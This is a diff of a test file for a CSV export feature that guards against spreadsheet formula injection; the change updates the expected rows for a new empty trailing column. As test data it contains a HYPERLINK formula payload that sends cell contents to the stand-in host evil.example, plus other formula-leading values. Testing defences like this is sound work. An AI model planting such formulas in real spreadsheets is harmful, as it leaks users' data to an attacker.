@@ -68,10 +68,10 @@ describe('the formula guard on exports', () => {
     const lines = (await exportOf(backend, {})).split('\r\n');
     // Written out by hand: the quoted account cell starts with '= inside the CSV quotes.
     const account = `"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"`;
-    expect(lines[1]).toBe(`2016-01-04,${account},deposit,,,,,1000,USD,`);
-    expect(lines[2]).toBe(`2016-01-05,${account},buy,'-X,2,10,,,USD,symbol starts with a minus`);
-    expect(lines[3]).toBe(`2016-01-06,${account},sell,'-X,1,4,,,USD,`);
-    const notes = lines.slice(4, 4 + NOTES.length).map((line) => line.slice(line.lastIndexOf('USD,') + 4));
+    expect(lines[1]).toBe(`2016-01-04,${account},deposit,,,,,1000,USD,,`);
+    expect(lines[2]).toBe(`2016-01-05,${account},buy,'-X,2,10,,,USD,symbol starts with a minus,`);
+    expect(lines[3]).toBe(`2016-01-06,${account},sell,'-X,1,4,,,USD,,`);
+    const notes = lines.slice(4, 4 + NOTES.length).map((line) => line.slice(line.lastIndexOf('USD,') + 4, -1)); // up to the empty fx_rate
     expect(notes).toEqual([
       "'=1+2",
       "'+SUM(A1)",
@@ -90,11 +90,11 @@ describe('the formula guard on exports', () => {
     const raw = await exportOf(backend, { formulaGuard: false });
     const lines = raw.split('\r\n');
     expect(lines[2]).toBe(
-      `2016-01-05,"=HYPERLINK(""http://evil.example/?""&A1,""Click"")",buy,-X,2,10,,,USD,symbol starts with a minus`,
+      `2016-01-05,"=HYPERLINK(""http://evil.example/?""&A1,""Click"")",buy,-X,2,10,,,USD,symbol starts with a minus,`,
     );
-    expect(lines[4]?.endsWith(',USD,=1+2')).toBe(true);
+    expect(lines[4]?.endsWith(',USD,=1+2,')).toBe(true);
     // Only a note that already starts with an apostrophe before a formula start gains one.
-    expect(lines[10]?.endsWith(",USD,''=already quoted")).toBe(true);
+    expect(lines[10]?.endsWith(",USD,''=already quoted,")).toBe(true);
 
     const target = open();
     await call(target, 'csv:import', { fileName: 'raw.csv', content: raw });
